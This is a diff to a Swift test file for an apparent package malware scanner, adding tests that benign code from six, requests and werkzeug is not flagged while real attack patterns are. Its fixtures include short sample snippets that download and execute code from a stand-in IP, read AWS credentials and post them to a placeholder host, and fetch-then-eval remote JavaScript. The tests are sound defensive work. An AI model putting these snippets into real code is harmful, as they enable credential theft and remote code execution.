@@ -170,3 +170,50 @@ import Testing
         #expect(abs(shannonEntropy(Array(Self.b64Alphabet.utf8)) - 6.0) < 1e-9)
     }
 }
+
+/// Real code from popular, benign packages that an over-eager rule would call critical.
+@Suite struct RealWorldNegativeTests {
+    @Test func sixExecShimNextToUrllibMovesIsNotDownloadExecute() {
+        var lines = ["MovedAttribute(\"urlopen\", \"urllib2\", \"urllib.request\"),"]
+        lines += Array(repeating: "x = 1", count: 40)
+        lines.append("    exec(\"\"\"exec _code_ in _globs_, _locs_\"\"\")")
+        #expect(!rules(scanFile("six.py", lines.joined(separator: "\n") + "\n")).contains("download-execute"))
+    }
+
+    @Test func httpLibraryReadingNetrcIsNotCritical() {
+        let src = "import socket\nimport urllib3\nNETRC_FILES = ('.netrc', '_netrc')\ndef get_netrc_auth(url):\n    return None\n"
+        #expect(scanFile("requests/utils.py", src).allSatisfy { $0.severity < .critical })
+    }
+
+    @Test func cookiesInProseIsNotABrowserStore() {
+        #expect(scanFile("requests/cookies.py", "\"\"\"Compatibility code to be able to use session.cookies to support dict operations.\"\"\"\n").isEmpty)
+    }
+
+    @Test func metadataProseIsNotCode() {
+        #expect(scanFile("requests-2.19.0.dist-info/METADATA", "Name: requests\n\n- ``.netrc`` support; uses requests.post( internally\n")
+            .allSatisfy { $0.rule == "shady-link" })
+    }
+
+    @Test func fetchAndRunCloseTogetherIsStillCritical() {
+        let src = "import urllib.request, subprocess\npath = urllib.request.urlretrieve('http://203.0.113.9/x')[0]\nsubprocess.run(['sh', path])\n"
+        #expect(scanFile("pkg/boot.py", src).contains { $0.rule == "download-execute" && $0.severity == .critical })
+    }
+
+    @Test func credentialsPlusUploadIsCritical() {
+        let src = "import os, requests\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://example.invalid/c', data=data)\n"
+        #expect(scanFile("pkg/x.py", src).contains { $0.rule == "credential-access" && $0.severity == .critical })
+    }
+}
+
+extension RealWorldNegativeTests {
+    /// werkzeug's debugger console: a method named fetch() near the console's exec.
+    @Test func fetchMethodIsNotAFetch() {
+        let src = "class ThreadedStream:\n    def fetch() -> str:\n        return ''\n\ndef run(code):\n    output = ThreadedStream.fetch()\n    exec(code, {})\n"
+        #expect(!rules(scanFile("werkzeug/debug/console.py", src)).contains("download-execute"))
+    }
+
+    @Test func javascriptFetchThenEvalIsCritical() {
+        let src = "fetch('https://203.0.113.7/p.js')\n  .then(r => r.text())\n  .then(t => eval(t));\n"
+        #expect(scanFile("index.js", src).contains { $0.rule == "download-execute" && $0.severity == .critical })
+    }
+}
